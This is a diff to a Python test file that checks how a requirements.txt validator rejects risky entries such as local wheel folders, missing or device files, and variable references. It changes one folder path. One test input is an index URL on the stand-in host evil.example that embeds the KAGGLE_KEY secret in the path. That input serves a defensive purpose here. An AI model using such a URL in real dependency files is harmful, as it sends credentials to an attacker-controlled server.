@@ -221,7 +221,7 @@ def test_a_file_with_hashes_is_its_own_lock(wanted: Path) -> None:
         ("--find-links wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
         ("-r gone.txt\n", "gone.txt is no file"),
         ("-r /dev/zero\n", "zero is no file"),
-        ("--find-links file:///wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
+        ("--find-links file:///opt/wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
         ("--index-url https://evil.example/${KAGGLE_KEY}/\ngreeting\n", "refers to a variable"),
     ],
 )
